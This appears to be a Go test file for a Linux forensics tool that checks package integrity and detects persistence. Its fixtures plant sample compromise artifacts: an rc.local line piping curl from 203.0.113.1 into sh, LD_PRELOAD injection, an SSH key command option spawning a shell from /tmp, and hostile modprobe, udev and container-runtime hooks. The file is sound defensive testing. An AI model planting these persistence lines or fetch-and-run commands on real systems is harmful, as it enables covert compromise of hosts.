package host

import (
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/deadnode/deadnode/evidence"
	"github.com/deadnode/deadnode/forensics/model"
)

// tree builds a small root: files (path -> content; a "->" prefix makes
// a symlink), modes for some.
type tree struct {
	t   *testing.T
	dir string
}

func newTree(t *testing.T) *tree { return &tree{t: t, dir: t.TempDir()} }

func (tr *tree) file(p, content string, mode os.FileMode) *tree {
	full := filepath.Join(tr.dir, p)
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		tr.t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
		tr.t.Fatal(err)
	}
	if err := os.Chmod(full, mode); err != nil {
		tr.t.Fatal(err)
	}
	return tr
}

func (tr *tree) link(p, target string) *tree {
	full := filepath.Join(tr.dir, p)
	os.MkdirAll(filepath.Dir(full), 0o755)
	if err := os.Symlink(target, full); err != nil {
		tr.t.Fatal(err)
	}
	return tr
}

func (tr *tree) open() evidence.Source {
	src, err := evidence.OpenDir(tr.dir)
	if err != nil {
		tr.t.Fatal(err)
	}
	tr.t.Cleanup(func() { src.Close() })
	return src
}

func md5hex(s string) string {
	h := md5.Sum([]byte(s))
	return hex.EncodeToString(h[:])
}

const elfStub = "\x7fELF\x02\x01\x01\x00" // enough for classify to say "elf" (its header is not readable)

// A Debian-like root: merged /usr, a diversion, a double listing, a
// path-exclude filter, conffiles, and the persistence a compromise adds.
func debianTree(t *testing.T) *tree {
	tr := newTree(t)
	tr.link("bin", "usr/bin").link("sbin", "usr/sbin").link("lib", "usr/lib")
	demo := "#!/bin/sh\necho demo\n"
	tool := "#!/bin/sh\necho tool\n"
	conf := "setting=1\n"
	unit := "[Unit]\nDescription=demo\n[Service]\nExecStart=/usr/bin/demo --serve\n[Install]\nWantedBy=multi-user.target\n"
	tr.file("usr/bin/demo", demo, 0o755).
		file("usr/bin/tool.distrib", tool, 0o755). // diverted by "other"
		file("usr/bin/tool", "#!/bin/sh\necho other's tool\n", 0o755).
		file("usr/bin/shared", "shared\n", 0o755).
		file("etc/demo.conf", "setting=2\n", 0o644). // edited conffile
		file("etc/pam.d/demo", "auth sufficient pam_permit.so\n", 0o644).
		file("usr/lib/systemd/system/demo.service", unit, 0o644).
		file("usr/bin/renamed", demo, 0o755). // a renamed copy of demo
		file("usr/sbin/.hid", "#!/bin/sh\n", 0o755).
		file("usr/lib/x86_64-linux-gnu/libz.so.9", elfStub, 0o644).
		file("usr/share/doc/demo/README", "doc\n", 0o644).
		link("usr/bin/linked", "/tmp/elsewhere")
	tr.file("var/lib/dpkg/status", "Package: demo\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\nConffiles:\n /etc/demo.conf "+md5hex(conf)+"\n /etc/pam.d/demo "+md5hex("auth required pam_unix.so\n")+"\n\n"+
		"Package: demo2\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n"+
		"Package: other\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n\n", 0o644).
		file("var/lib/dpkg/info/demo.list", "/.\n/bin\n/bin/demo\n/usr/bin/tool\n/usr/bin/shared\n/etc/demo.conf\n/etc/pam.d/demo\n/lib/systemd/system/demo.service\n/usr/share/doc/demo/README\n/usr/share/doc/demo/changelog.gz\n/usr/bin/gone\n/usr/bin/linked\n", 0o644).
		file("var/lib/dpkg/info/demo.md5sums", md5hex(demo)+"  bin/demo\n"+md5hex(tool)+"  usr/bin/tool\n"+md5hex("shared\n")+"  bin/shared\n"+md5hex(unit)+"  lib/systemd/system/demo.service\n"+md5hex("doc\n")+"  usr/share/doc/demo/README\n"+md5hex("x")+"  usr/share/doc/demo/changelog.gz\n"+md5hex("gone")+"  usr/bin/gone\n"+md5hex("linked")+"  usr/bin/linked\n", 0o644).
		file("var/lib/dpkg/info/demo2.list", "/usr/bin/shared\n", 0o644).
		file("var/lib/dpkg/info/demo2.md5sums", md5hex("shared\n")+"  usr/bin/shared\n", 0o644).
		file("var/lib/dpkg/info/other.list", "/usr/bin/tool\n", 0o644).
		file("var/lib/dpkg/info/other.md5sums", md5hex("#!/bin/sh\necho other's tool\n")+"  usr/bin/tool\n", 0o644).
		file("var/lib/dpkg/diversions", "/usr/bin/tool\n/usr/bin/tool.distrib\nother\n", 0o644).
		file("etc/dpkg/dpkg.cfg.d/excludes", "path-exclude=/usr/share/doc/*\npath-include=/usr/share/doc/*/README\n", 0o644)
	return tr
}

func TestPackagesTree(t *testing.T) {
	src := debianTree(t).open()
	r, err := Packages(context.Background(), src, PackageOptions{})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, c := range r.Changes {
		if _, dup := got[c.Path]; dup {
			t.Errorf("%s twice", c.Path)
		}
		got[c.Path] = c.Change + " " + c.Severity.String()
		if c.Path == "/usr/bin/renamed" && c.IdenticalTo != "/usr/bin/demo" {
			t.Errorf("renamed: identical_to %q", c.IdenticalTo)
		}
	}
	want := map[string]string{
		"/etc/demo.conf":                      "conffile_modified info",
		"/etc/pam.d/demo":                     "conffile_modified medium",
		"/usr/bin/gone":                       "missing low",
		"/usr/bin/linked":                     "type_changed high",
		"/usr/bin/renamed":                    "unowned high",
		"/usr/sbin/.hid":                      "unowned high",
		"/usr/lib/x86_64-linux-gnu/libz.so.9": "unowned medium",
	}
	for p, w := range want {
		if got[p] != w {
			t.Errorf("%s: %q, want %q", p, got[p], w)
		}
	}
	// the diverted file is checked at its new place against the
	// diverted package's digest; merged /usr and the double listing are
	// checked once; the filtered changelog is excluded
	if len(got) != len(want) {
		t.Errorf("changes %v", got)
	}
	if r.Excluded != 1 || r.Checked != 8 {
		t.Errorf("excluded %d checked %d", r.Excluded, r.Checked)
	}
}

func TestPersistenceTree(t *testing.T) {
	tr := debianTree(t)
	evil := "#!/bin/sh\ncurl -s http://203.0.113.1/p | sh\n"
	tr.file("etc/systemd/system/demo.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/tmp/.x/evil --now\n", 0o644).
		link("etc/systemd/system/multi-user.target.wants/demo.service", "/lib/systemd/system/demo.service").
		// a wants link whose ../ climbs past the root: it stays inside
		link("etc/systemd/system/multi-user.target.wants/out.service", "../../../../../../../../tmp/out.service").
		file("tmp/out.service", "[Service]\nExecStart=/usr/bin/demo\n", 0o644).
		link("etc/systemd/system/multi-user.target.wants/loop.service", "loop.service").
		link("etc/systemd/system/masked.service", "/dev/null").
		file("etc/systemd/system/timers.target.wants/plain.timer", "not a link", 0o644).
		file("etc/rc.local", evil, 0o755).
		file("etc/profile.d/zz.sh", "export LD_PRELOAD=/dev/shm/l.so\n", 0o644).
		file("etc/profile.d/notes.txt", "curl x | sh\n", 0o644).
		file("etc/cron.d/long", "* * * * * root /usr/bin/demo "+strings.Repeat("A", 200000)+"\n", 0o644).
		file("etc/cron.d/junk", "\x00\x01\x02\xff\xfe\n\x7fELF garbage\n* * *\n", 0o644).
		file("etc/cron.d/bad.name", "* * * * * root /usr/bin/demo\n", 0o644).
		file("var/spool/cron/crontabs/alice", "@reboot /home/alice/.local/bin/agent\n", 0o600).
		file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n", 0o644).
		file("home/alice/.ssh/authorized_keys", `command="/tmp/.k/sh -i" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk8PaNd9c1bQ3l0ZbVvOq2sX4u7yTn3hD0LwEaZ1mQv`+"\n# comment\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk8PaNd9c1bQ3l0ZbVvOq2sX4u7yTn3hD0LwEaZ1mQv alice@laptop\n", 0o600).
		file("home/alice/.local/bin/agent", "#!/bin/sh\n", 0o755).
		file("home/alice/.config/systemd/user/sync.service", "[Service]\nExecStart=%h/.local/bin/agent\n", 0o644).
		link("home/alice/.config/systemd/user/default.target.wants/sync.service", "/home/alice/.config/systemd/user/sync.service").
		file("etc/modules-load.d/x.conf", "# c\nrootkit\n", 0o644).
		file("etc/modprobe.d/harden.conf", "install usb-storage /bin/true\ninstall evil /sbin/modprobe --ignore-install evil; \\\n  /dev/shm/.m\n", 0o644).
		file("etc/udev/rules.d/99-x.rules", `ACTION=="add", SUBSYSTEM=="usb", RUN+="/var/tmp/u.sh %k", RUN{builtin}+="kmod load x"`+"\n", 0o644).
		file("etc/containers/oci/hooks.d/legacy.json", `{"hook": "/usr/bin/demo", "stage": ["prestart"], "cmds": [".*"]}`, 0o644).
		file("etc/containers/oci/hooks.d/broken.json", `{"hook": {`, 0o644).
		file("etc/containerd/config.toml", "version = 2\n[plugins.\"io.containerd.grpc.v1.cri\".containerd.runtimes.runc]\n  runtime_type = \"io.containerd.runc.v2\"\n[plugins.\"io.containerd.grpc.v1.cri\".containerd.runtimes.evil]\n  runtime_type = \"io.containerd.runc.v2\"\n  [plugins.\"io.containerd.grpc.v1.cri\".containerd.runtimes.evil.options]\n    BinaryName = \"/var/tmp/.r/runc\"\n[plugins.\"io.containerd.nri.v1.nri\"]\n  disable = false\n  plugin_path = \"/opt/nri/plugins\"\n", 0o644).
		file("opt/nri/plugins/10-logger", "#!/bin/sh\n", 0o755).
		file("etc/crio/crio.conf.d/10-x.conf", "[crio.runtime.runtimes.crun]\nruntime_path = \"/usr/bin/crun\"\n[crio.runtime]\nhooks_dir = [\"/etc/containers/oci/hooks.d\", \"/dev/shm/hooks\"]\n", 0o644).
		file("dev/shm/hooks/h.json", `{"version":"1.0.0","hook":{"path":"/usr/bin/demo"},"when":{"always":true},"stages":["createRuntime"]}`, 0o644).
		file("etc/ld.so.preload", "# none\n", 0o644).
		file("etc/environment", "PATH=\"/usr/bin\"\nLD_PRELOAD=/usr/lib/libq.so\n", 0o644)
	src := tr.open()
	r, err := Persistence(context.Background(), src, PersistenceOptions{})
	if err != nil {
		t.Fatal(err)
	}
	type key struct {
		path string
		line int
	}
	by := map[key]Entry{}
	for _, e := range r.Entries {
		by[key{e.Path, e.Line}] = e
	}
	check := func(p string, line int, sev model.Severity, target string, flags ...string) Entry {
		t.Helper()
		e, ok := by[key{p, line}]
		if !ok {
			t.Errorf("%s:%d: no entry", p, line)
			return e
		}
		if e.Severity != sev || target != "" && e.Target != target {
			t.Errorf("%s:%d: %s %q (%s); want %s %q", p, line, e.Severity, e.Target, e.Why, sev, target)
		}
		for _, f := range flags {
			if !hasFlag(e.Flags, f) {
				t.Errorf("%s:%d: flags %v lack %s", p, line, e.Flags, f)
			}
		}
		return e
	}
	// the drop-in reset makes a package unit run a hidden program in /tmp
	u := check("/usr/lib/systemd/system/demo.service", 0, model.SeverityHigh, "/tmp/.x/evil --now", FlagUnownedDropIn, FlagRunsVolatile)
	if u.OwnerPackage == nil || *u.OwnerPackage != "demo" || len(u.Unit.DropIns) != 1 || u.Unit.DropIns[0].OwnerPackage != nil || !u.Enabled {
		t.Errorf("demo.service: %+v", u.Unit)
	}
	check("/etc/systemd/system/multi-user.target.wants/demo.service", 0, model.SeverityHigh, "/tmp/.x/evil --now")
	out := check("/etc/systemd/system/multi-user.target.wants/out.service", 0, model.SeverityHigh, "/usr/bin/demo", FlagUnitOutside, FlagRunsVolatile)
	if out.Unit.File != "/tmp/out.service" {
		t.Errorf("out.service read from %s", out.Unit.File)
	}
	check("/etc/systemd/system/multi-user.target.wants/loop.service", 0, model.SeverityLow, "", FlagLinkDangling)
	check("/etc/systemd/system/timers.target.wants/plain.timer", 0, model.SeverityLow, "", FlagNotALink, FlagLinkDangling)
	for _, e := range r.Entries {
		if strings.Contains(e.Path, "masked") {
			t.Errorf("masked unit listed: %+v", e)
		}
	}
	check("/etc/rc.local", 0, model.SeverityHigh, "/etc/rc.local", FlagFetchRun)
	check("/etc/profile.d/zz.sh", 0, model.SeverityHigh, "", FlagPreloadsLib)
	if e := check("/etc/profile.d/notes.txt", 0, model.SeverityHigh, ""); e.Enabled {
		t.Error("profile.d/notes.txt enabled")
	}
	check("/etc/cron.d/long", 1, model.SeverityMedium, "", FlagLongLine)
	if e := check("/etc/cron.d/bad.name", 1, model.SeverityLow, "", FlagRefusedByCron); e.Enabled {
		t.Error("bad.name enabled")
	}
	for _, e := range r.Entries {
		if e.Path == "/etc/cron.d/junk" && (e.Enabled || e.Note == "") {
			t.Errorf("junk line judged a job: %+v", e)
		}
	}
	// ~/.local/bin is where a user's programs live: not hidden
	al := check("/var/spool/cron/crontabs/alice", 1, model.SeverityMedium, "@reboot /home/alice/.local/bin/agent")
	if al.Cron.User != "alice" {
		t.Errorf("alice's crontab user %q", al.Cron.User)
	}
	k := check("/home/alice/.ssh/authorized_keys", 1, model.SeverityHigh, "SHA256:Buk1v7yAYL273A/owccJoEtqJ/BOifnsL8h4uk7Wuwg", FlagCommandOption, FlagRunsVolatile)
	if k.Key.User != "alice" || k.Key.Command != "/tmp/.k/sh -i" {
		t.Errorf("key: %+v", k.Key)
	}
	check("/home/alice/.ssh/authorized_keys", 3, model.SeverityMedium, "alice@laptop")
	if e := check("/home/alice/.config/systemd/user/sync.service", 0, model.SeverityMedium, "%h/.local/bin/agent", FlagUserUnit); len(e.Programs) != 1 || e.Programs[0].Resolved != "/home/alice/.local/bin/agent" {
		t.Errorf("sync.service programs %+v", e.Programs)
	}
	check("/home/alice/.config/systemd/user/default.target.wants/sync.service", 0, model.SeverityMedium, "", FlagUserUnit, FlagWantsLink)
	check("/etc/modules-load.d/x.conf", 2, model.SeverityMedium, "rootkit")
	check("/etc/modprobe.d/harden.conf", 1, model.SeverityInfo, "/bin/true")
	check("/etc/modprobe.d/harden.conf", 2, model.SeverityHigh, "", FlagRunsVolatile, FlagRunsHidden)
	check("/etc/udev/rules.d/99-x.rules", 1, model.SeverityHigh, "/var/tmp/u.sh %k", FlagRunsVolatile)
	if h := check("/etc/containers/oci/hooks.d/legacy.json", 0, model.SeverityMedium, "/usr/bin/demo"); h.Hook == nil || h.Hook.Version != "0.1.0" || h.Hook.Stages[0] != "prestart" {
		t.Errorf("legacy hook: %+v", h.Hook)
	}
	check("/etc/containers/oci/hooks.d/broken.json", 0, model.SeverityLow, "")
	check("/dev/shm/hooks/h.json", 0, model.SeverityHigh, "/usr/bin/demo")
	check("/opt/nri/plugins/10-logger", 0, model.SeverityMedium, "/opt/nri/plugins/10-logger")
	check("/etc/environment", 2, model.SeverityHigh, "/usr/lib/libq.so", FlagPreloadsLib, FlagTargetMissing)
	var runc, evilRT, crun, hooksDir bool
	for _, e := range r.Entries {
		if e.Runtime == nil {
			continue
		}
		switch {
		case e.Runtime.Name == "runc":
			runc = e.Severity == model.SeverityInfo
		case e.Runtime.Name == "evil":
			evilRT = e.Severity == model.SeverityHigh && e.Target == "/var/tmp/.r/runc"
		case e.Runtime.Name == "crun":
			crun = e.Severity == model.SeverityInfo
		case e.Runtime.Setting == "crio.runtime.hooks_dir":
			hooksDir = e.Severity == model.SeverityMedium && strings.Contains(e.Runtime.Detail, "/dev/shm/hooks")
		}
	}
	if !runc || !evilRT || !crun || !hooksDir {
		t.Errorf("runtime settings: runc %v evil %v crun %v hooks_dir %v", runc, evilRT, crun, hooksDir)
	}
	// the link loop is a warning, not a hang or an error
	if !strings.Contains(warningText(r.Warnings), "too many levels of symbolic links") {
		t.Errorf("warnings %q", r.Warnings)
	}
	// a comment-only ld.so.preload preloads nothing
	for _, e := range r.Entries {
		if e.Path == "/etc/ld.so.preload" {
			t.Errorf("empty ld.so.preload made an entry: %+v", e)
		}
	}
}

// Without a package database every entry is unowned, and the evidence is
// still read.
func TestPersistenceNoDB(t *testing.T) {
	src := newTree(t).file("etc/cron.d/x", "* * * * * root /usr/bin/true\n", 0o644).open()
	r, err := Persistence(context.Background(), src, PersistenceOptions{})
	if err != nil || r.PackageDB != "" || len(r.Entries) != 1 || r.Entries[0].Severity != model.SeverityMedium {
		t.Errorf("%v %+v", err, r)
	}
	if _, err := Packages(context.Background(), src, PackageOptions{}); err != ErrNoPackageDB {
		t.Errorf("packages: %v", err)
	}
}

// unitExecs lists the commands of the unit entries whose path holds name.
func unitExecs(r *PersistenceReport, name string) []string {
	var out []string
	for _, e := range r.Entries {
		if e.Unit != nil && strings.Contains(e.Path, name) {
			for _, x := range e.Unit.Exec {
				out = append(out, x.Directive+"="+x.Command)
			}
		}
	}
	return out
}

// Units merged as systemd merges them: an empty ExecStart= in another
// section resets nothing (it wiped the service's /tmp/evil); an Exec line
// past the kept count is said, not dropped in silence; a name's dash
// prefixes have drop-ins of their own (foo-.service.d), and
// /etc/systemd/system.control is searched first.
func TestUnitsMergedAsSystemdDoes(t *testing.T) {
	var many strings.Builder
	many.WriteString("[Service]\nExecStart=/usr/bin/true\n")
	for i := range 64 {
		fmt.Fprintf(&many, "ExecStartPre=/usr/bin/true %d\n", i)
	}
	src := newTree(t).
		file("etc/systemd/system/demo.service", "[Service]\nExecStart=/tmp/evil\n[Install]\nWantedBy=multi-user.target\n", 0o644).
		file("etc/systemd/system/demo.service.d/x.conf", "[X-Notes]\nExecStart=\n", 0o644).
		file("etc/systemd/system/many.service", many.String(), 0o644).
		file("etc/systemd/system/many.service.d/zz.conf", "[Service]\nExecStartPre=/tmp/late\n", 0o644).
		file("etc/systemd/system/foo-bar.service", "[Service]\nExecStart=/usr/bin/true\n", 0o644).
		file("etc/systemd/system/foo-.service.d/x.conf", "[Service]\nExecStart=\nExecStart=/tmp/prefixed\n", 0o644).
		file("etc/systemd/system.control/ctl.service", "[Service]\nExecStart=/tmp/control\n", 0o644).
		open()
	r, err := Persistence(context.Background(), src, PersistenceOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if got := unitExecs(r, "demo.service"); !slices.Contains(got, "ExecStart=/tmp/evil") {
		t.Errorf("demo: %q", got)
	}
	if got := unitExecs(r, "foo-bar.service"); !slices.Contains(got, "ExecStart=/tmp/prefixed") || slices.Contains(got, "ExecStart=/usr/bin/true") {
		t.Errorf("foo-bar: %q", got)
	}
	if got := unitExecs(r, "system.control/ctl.service"); !slices.Contains(got, "ExecStart=/tmp/control") {
		t.Errorf("ctl: %q", got)
	}
	if w := fmt.Sprint(r.Warnings); !strings.Contains(w, "/etc/systemd/system/many.service: more values of Service/ExecStartPre than are kept") {
		t.Errorf("warnings %s", w)
	}
}

// A status file past the package bound keeps the packages read before the
// bound, with a warning: the whole database was lost (no drift checked).
func TestDpkgStatusPastTheBound(t *testing.T) {
	tr := debianTree(t)
	b, err := os.ReadFile(tr.dir + "/var/lib/dpkg/status")
	if err != nil {
		t.Fatal(err)
	}
	clean, err := OpenPackageDB(context.Background(), tr.open())
	if err != nil {
		t.Fatal(err)
	}
	tr.file("var/lib/dpkg/status", string(b)+"\n"+strings.Repeat("Package: pad\nStatus: deinstall ok config-files\n\n", MaxPackages), 0o644)
	db, err := OpenPackageDB(context.Background(), tr.open())
	if err != nil {
		t.Fatal(err)
	}
	if len(db.Packages) != MaxPackages || len(clean.Packages) == 0 || !strings.Contains(fmt.Sprint(db.Warnings), fmt.Sprintf("more than %d packages", MaxPackages)) {
		t.Fatalf("%d packages, warnings %v", len(db.Packages), db.Warnings)
	}
	for i, p := range clean.Packages {
		if db.Packages[i].Name != p.Name || db.Packages[i].Files != p.Files {
			t.Errorf("package %d: %+v, want %+v", i, db.Packages[i], p)
		}
	}
}

// AuthorizedKeysFile as sshd reads it: "keyword=value", %U (the uid), and
// a Match block's value, which is not the global one (it took the "first
// value wins" slot from the global line after the Include) but names a
// keys file of the users it matches. Each config found no key before.
func TestSSHDAuthorizedKeysFile(t *testing.T) {
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk8PaNd9c1bQ3l0ZbVvOq2sX4u7yTn3hD0LwEaZ1mQv evil@x\n"
	for name, c := range map[string]struct {
		cfg  map[string]string
		want []string
	}{
		"equals": {map[string]string{"etc/ssh/sshd_config": "AuthorizedKeysFile=/etc/ssh/keys/%u\n"}, []string{"/etc/ssh/keys/root"}},
		"uid":    {map[string]string{"etc/ssh/sshd_config": "AuthorizedKeysFile /etc/ssh/keys/%U\n"}, []string{"/etc/ssh/keys/0"}},
		"match": {map[string]string{"etc/ssh/sshd_config": "Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile /etc/ssh/keys/%u\n",
			"etc/ssh/sshd_config.d/10-deploy.conf": "Match User root\n    AuthorizedKeysFile /opt/deploy/keys\n"}, []string{"/etc/ssh/keys/root", "/opt/deploy/keys"}},
	} {
		tr := newTree(t).
			file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0o644).
			file("root/.keep", "", 0o644).
			file("etc/ssh/keys/root", key, 0o644).
			file("etc/ssh/keys/0", key, 0o644).
			file("opt/deploy/keys", key, 0o644)
		for p, v := range c.cfg {
			tr.file(p, v, 0o644)
		}
		r, err := Persistence(context.Background(), tr.open(), PersistenceOptions{})
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, e := range r.Entries {
			if e.Kind == KindAuthorizedKey {
				got = append(got, e.Path)
			}
		}
		sort.Strings(got)
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: keys in %q, want %q", name, got, c.want)
		}
	}
}
